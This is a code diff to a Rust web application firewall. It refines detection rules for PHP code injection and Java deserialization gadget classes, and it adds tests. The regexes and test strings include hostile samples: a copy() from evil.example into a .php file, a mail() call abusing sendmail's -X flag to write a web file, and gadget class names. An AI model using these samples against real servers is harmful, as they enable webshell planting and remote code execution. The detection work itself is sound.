@@ -37,12 +37,16 @@ macro_rules! php_index {
     };
 }
 
-/// A class of the JDK or of a library that deserialization gadget chains use:
-/// a package, then a capitalised class name (`java.io.Reader`,
-/// `org.omg.CORBA`), not a system property (`java.io.tmpdir`).
+/// A class of a package that deserialization gadget chains reach into: the
+/// JDK's I/O, RMI, beans, naming, scripting and reflection, and the libraries
+/// of the known chains (`java.io.Reader`, `org.omg.CORBA`,
+/// `ch.qos.logback.core.db.JNDIConnectionSource`). A package, then a
+/// capitalised class name: not a system property (`java.io.tmpdir`), and not
+/// the collections, times and exceptions applications type (`java.util.ArrayList`,
+/// `java.time.Instant`), nor a logger's name (`org.hibernate.SQL`).
 macro_rules! java_gadget_class {
     () => {
-        r"(?:java|javax|jdk|sun|com\.sun|org\.(?:apache|springframework|omg|codehaus|hibernate|jboss|mozilla|python|slf4j|aspectj|objectweb)|com\.(?:mchange|alibaba|zaxxer|fasterxml)|ch\.qos|oracle|br\.com\.anteros)\.(?:[a-z_]\w*\.)*(?-i:[A-Z])\w*"
+        r"(?:(?:java\.(?:io|rmi|beans|net|lang\.(?:reflect|invoke))|javax\.(?:naming|management|script|swing|sql|xml\.transform)|jdk\.nashorn|sun|com\.sun|org\.(?:apache\.(?:xbean|commons\.(?:collections\d*|beanutils|configuration\d*|dbcp\d*|fileupload|io|jxpath)|xalan|tomcat|ibatis|openjpa|aries|cxf|axis2?|log4j|shiro|hadoop|ignite|batik|velocity|wicket|myfaces|naming|catalina|bcel)|springframework\.(?:beans|context|aop|jndi|transaction)|codehaus\.groovy|mozilla\.javascript|python|hibernate\.(?:engine|tuple|jmx|property)|jboss|omg|aspectj|objectweb|slf4j\.ext)|ch\.qos\.logback\.core|com\.(?:mchange|zaxxer\.hikari|alibaba\.fastjson|caucho|rometools)|oracle\.jdbc|br\.com\.anteros|net\.sf\.ehcache|bsh)\.(?:[a-z_]\w*\.)*(?-i:[A-Z])\w*|java\.lang\.(?-i:Runtime|ProcessBuilder|ClassLoader|Thread)\b)"
     };
 }
 
@@ -104,7 +108,7 @@ pub(super) fn rules() -> Vec<RuleDef> {
             t,
             DEC,
             Regex(concat!(
-                r##"\b(?:phpinfo\s*\(\s*\)|(?:shell_exec|passthru|proc_open|pcntl_exec|popen|create_function|call_user_func(?:_array)?|gzinflate|gzuncompress|str_rot13|file_get_contents|file_put_contents|highlight_file|show_source|move_uploaded_file|assert|base64_decode|system|exec|eval|readfile|fopen|unlink|fsockopen|curl_exec|preg_replace|array_map|usort|ob_start|register_shutdown_function)\s*\(\s*(?:\$\w|['"`][^'"`]*['"`]\s*[),]|(?:base64_decode|gzinflate|str_rot13|chr|strrev|hex2bin)\s*\(|@?\$_))|\bmail\s*\([^)]*['"]\s*-[xo]\s*\S|\bcopy\s*\(\s*['"](?:https?|ftps?)://[^'"]*['"]\s*,\s*['"][^'"]*\.(?:php\d?|phtml|phar)['"]|(?:^|[^\w.>:$])(?:"##,
+                r##"\b(?:phpinfo\s*\(\s*\)|(?:shell_exec|passthru|proc_open|pcntl_exec|popen|create_function|call_user_func(?:_array)?|gzinflate|gzuncompress|str_rot13|file_get_contents|file_put_contents|highlight_file|show_source|move_uploaded_file|assert|base64_decode|system|exec|eval|readfile|fopen|unlink|fsockopen|curl_exec|preg_replace|array_map|usort|ob_start|register_shutdown_function)\s*\(\s*(?:\$\w|['"`][^'"`]*['"`]\s*[),]|(?:base64_decode|gzinflate|str_rot13|chr|strrev|hex2bin)\s*\(|@?\$_))|\bmail\s*\([^)]*['"](?:[^'"]*\s)?(?:(?-i:-[XC])\s*\S|-oqueuedirectory\b)|\bcopy\s*\(\s*['"](?:https?|ftps?)://[^'"]*['"]\s*,\s*['"][^'"]*\.(?:php\d?|phtml|phar)['"]|(?:^|[^\w.>:$])(?:"##,
                 php_shell_fns!(),
                 r##")\s*\(\s*(?:id|whoami|uname|ls|dir|pwd|hostname|ifconfig|ipconfig|netstat|ps|env|cat|wget|curl|nc|ncat|bash|powershell)\b|\b(?:include|require)(?:_once)?\s*\(?\s*(?:\$_|['"](?:https?|ftps?|php|data|expect|zip|phar)://|['"][^'"]*\.(?:php\d?|phtml|inc)['"])"##
             )),
@@ -122,7 +126,7 @@ pub(super) fn rules() -> Vec<RuleDef> {
             // (`pfsockopen('x', 25)`, `posix_getegid()`, `curl_init()`). A
             // method (`$c->curl_init()`, `os.posix_spawn(`) is some other code.
             Regex(
-                r##"(?:^|[^\w.>:$])(?:posix_\w+|pcntl_\w+|proc_(?:open|close|nice|terminate|get_status)|shell_exec|passthru|p?fsockopen|stream_socket_(?:client|server)|curl_(?:init|exec|multi_exec|setopt(?:_array)?)|gzuncompress|gzinflate|gzdecode|str_rot13|base64_decode|convert_uudecode|hex2bin|create_function|call_user_func(?:_array)?|file_(?:get|put)_contents|phpinfo|php_uname|phpversion|getmypid|getmyuid|getmygid|get_current_user|ini_(?:set|get|get_all|restore)|assert_options|set_time_limit|ignore_user_abort|highlight_file|show_source|move_uploaded_file|escapeshell(?:cmd|arg)|file(?:group|owner|perms|inode)|get_defined_(?:vars|functions|constants)|unserialize|parse_ini_(?:file|string)|var_dump|var_export|print_r|debug_zval_dump|gethostbyname|dns_get_record|mb_send_mail|register_shutdown_function|forward_static_call(?:_array)?)\s*(?:/\*[^*]*\*/\s*)*\("##,
+                r##"(?:^|[^\w.>:$])(?:posix_(?:get\w+|kill|mkfifo|mknod|set(?:uid|gid|euid|egid|sid|pgid)|uname|ttyname|isatty|access|times|ctermid)|pcntl_\w+|proc_(?:open|close|nice|terminate|get_status)|shell_exec|passthru|p?fsockopen|stream_socket_(?:client|server)|curl_(?:init|exec|multi_exec|setopt(?:_array)?)|gzuncompress|gzinflate|gzdecode|str_rot13|base64_decode|convert_uudecode|hex2bin|create_function|call_user_func(?:_array)?|file_(?:get|put)_contents|phpinfo|php_uname|phpversion|getmypid|getmyuid|getmygid|get_current_user|ini_(?:set|get|get_all|restore)|assert_options|set_time_limit|ignore_user_abort|highlight_file|show_source|move_uploaded_file|escapeshell(?:cmd|arg)|file(?:group|owner|perms|inode)|get_defined_(?:vars|functions|constants)|unserialize|parse_ini_(?:file|string)|var_dump|var_export|print_r|debug_zval_dump|dns_get_record|mb_send_mail|register_shutdown_function|forward_static_call(?:_array)?)\s*(?:/\*[^*]*\*/\s*)*\("##,
             ),
             "PHP function call of a PHP-only function",
         ),
@@ -157,7 +161,7 @@ pub(super) fn rules() -> Vec<RuleDef> {
                 // A space before the parentheses when a call's arguments
                 // follow (`$a[@d] ()`, `$x[0] (16)`), not words (`$a[$k] (see
                 // above)`).
-                r##")+(?:(?:\s*/\*[^*]*\*/\s*)*\(|\s+\(\s*[\d'")])"##,
+                r##")+(?:(?:\s*/\*[^*]*\*/\s*)*\(|\s+\(\s*(?:\d+|'[^']*'|"[^"]*")?(?:\s*,\s*(?:\d+|'[^']*'|"[^"]*"))*\s*\)\s*(?:;|$))"##,
                 r##"|(?:\$\s*\{[^}]{1,40}\}|\$\s*\$+\s*@?[a-z_]\w*)(?:\s*"##,
                 php_index!(),
                 r##")*(?:\s*/\*[^*]*\*/)*\("##,
@@ -186,7 +190,7 @@ pub(super) fn rules() -> Vec<RuleDef> {
                 // A name built of strings, then called through its variable
                 // (`$a = 'sys'.'tem'; $a('id');`).
                 r##"|\$[a-z_]\w*\s*=\s*['"][a-z_]{1,12}['"](?:\s*\.\s*['"][a-z_]{1,12}['"])+\s*;\s*\$[a-z_]\w*\s*\("##,
-                r##"|\$[a-z_]\w*\s*\([^()]{0,20}\)\s*\.\s*\$[a-z_]\w*\s*\(|\$(?:o+0|0+o)[o0]{3,}\s*[(\[{]|(?:^|[^\w.>:$])(?:"##,
+                r##"|\$[a-z_]\w*\s*\(\s*\d+\s*\)\s*\.\s*\$[a-z_]\w*\s*\(\s*\d|\$(?:o+0|0+o)[o0]{3,}\s*[(\[{]|(?:^|[^\w.>:$])(?:"##,
                 php_exec_fns!(),
                 r##")\s*(?:/\*[^*]*\*/\s*)+\("##
             )),
@@ -400,14 +404,15 @@ pub(super) fn rules() -> Vec<RuleDef> {
             Java,
             2,
             Critical,
-            NAMES,
+            t,
             DEC,
-            // A key that names a class of the JDK or of a library gadget chains
-            // use (`{"java.io.Reader": …}`, `{"org.omg.CORBA": …}`): Jackson's
-            // wrapper-object typing builds the class a key names. A system
-            // property (`java.io.tmpdir`) names no class.
+            // A key or a value that is a class of a package gadget chains
+            // reach into: Jackson builds the class a key names in its
+            // wrapper-object typing (`{"java.io.Reader": …}`), and the class
+            // an `@class` value or an array's first element names in a
+            // parsed body (`["ch.qos.logback.core.db.JNDIConnectionSource", {…}]`).
             Regex(concat!(r"^\s*", java_gadget_class!(), r"\s*$")),
-            "Java class named by a key",
+            "Java gadget class named alone: a key, or a value of Jackson's typing",
         ),
         rule(
             944145,
@@ -416,7 +421,9 @@ pub(super) fn rules() -> Vec<RuleDef> {
             Critical,
             t,
             DEC,
-            // ... and such a key in JSON a value carries (`q={"java.io.Reader": 1}`).
+            // ... and such a key in JSON a value carries (`q={"java.io.Reader":
+            // "x"}`; Jackson builds a `java.io.File` or a `java.net.URL` from
+            // a string).
             Regex(concat!(
                 r#"[{,]\s*["']"#,
                 java_gadget_class!(),
@@ -573,6 +580,10 @@ mod tests {
             "the (system) (default) setting",
             "$items[$key] is an array element",
             "$items[$key] (see above) is an array element",
+            "The first element, $arr[0] (1 of 3), is used",
+            "$row['name'] ('John') is printed",
+            "$firebaseArray(ref).$loaded().then(cb)",
+            "$prices[0] (10 USD) and $prices[1] (20 USD)",
             "$(this).$el(x)",
             "$('#a').text($b('c'))",
             "the exec (see below) call",
@@ -598,6 +609,15 @@ mod tests {
         assert!(fires(933150, "copy('http://evil.example/s.txt', 's.php');"));
         assert!(!fires(933150, "mail('a@b.c', 'Subject', 'body - regards')"));
         assert!(!fires(933150, "copy('http://a.example/x.png', 'x.png')"));
+        assert!(fires(
+            933150,
+            "mail('a','b','c','d','-f x -X /var/www/x.php')"
+        ));
+        assert!(!fires(
+            933150,
+            "mail($to, $subject, $body, $headers, '-oi');"
+        ));
+        assert!(!fires(933150, "mail($to, $subject, $body, '', \"-odb\")"));
     }
 
     #[test]
@@ -614,7 +634,7 @@ mod tests {
             "pfsockopen('foo', 25)",
             "posix_getegid()",
             "curl_iNit()",
-            "gethostbynamE(",
+            "posix_getpwuid(0)",
             "var_dump(scandir('.'));",
             "filegroup  (blah)",
             "x;base64_decode /*c*/ ($x)",
@@ -627,6 +647,8 @@ mod tests {
             "I don't like gzuncompress",
             "the base64_decode function",
             "socket.gethostbyname",
+            "struct hostent *h = gethostbyname(name);",
+            "posix_memalign(&p, 64, n);",
         ] {
             assert!(!fires(933151, b), "flagged {b:?}");
         }
@@ -657,12 +679,14 @@ mod tests {
     }
 
     #[test]
-    fn a_key_naming_a_jdk_or_gadget_class_fires_but_a_property_or_value_does_not() {
+    fn a_gadget_class_named_alone_fires_but_a_property_or_an_application_type_does_not() {
         for a in [
             "java.io.BufferedInputStream",
-            "java.lang.StringBuilder",
+            "java.lang.ProcessBuilder",
             "org.omg.CORBA",
             "com.sun.rowset.JdbcRowSetImpl",
+            "ch.qos.logback.core.db.JNDIConnectionSource",
+            "org.apache.xbean.propertyeditor.JndiConverter",
         ] {
             assert!(fires(944140, a), "missed {a:?}");
         }
@@ -671,20 +695,26 @@ mod tests {
             "java.version",
             "org.apache.commons",
             "javaScript",
+            "java.util.ArrayList",
+            "java.time.OffsetDateTime",
+            "org.hibernate.SQL",
+            "org.apache.kafka.clients.NetworkClient",
+            "com.alibaba.demo.OrderDto",
         ] {
             assert!(!fires(944140, b), "flagged {b:?}");
         }
-        // In a value, only as a key of JSON: a class named alone is a stack
-        // trace, a log line or a search.
+        // Inside a longer value, only as a key of JSON: not a stack trace, a log
+        // line, or a logger's level map of the application's own classes.
         assert!(fires(944145, "{\"java.io.DataInputStream\": \"test\"}"));
-        assert!(fires(944145, "[1, {'x': 2}, {'org.omg.CORBA': 3}]"));
+        assert!(fires(944145, "[1, {'x': 2}, {'org.omg.CORBA': [3]}]"));
+        assert!(!fires(944145, "{\"org.hibernate.SQL\": \"debug\"}"));
+        assert!(!fires(
+            944145,
+            "{\"org.apache.kafka.clients.NetworkClient\": \"WARN\"}"
+        ));
         assert!(!fires(944145, "at java.io.Reader.read(Reader.java:140)"));
         assert!(!fires(944145, "{\"java.io.tmpdir\": \"/tmp\"}"));
         assert!(!fires(944145, "{\"error\": \"java.io.IOException\"}"));
-        let rule = crate::waf::rules::builtin()
-            .into_iter()
-            .find(|r| r.id == 944140);
-        assert_eq!(rule.map(|r| r.targets), Some(super::NAMES));
     }
 
     #[test]
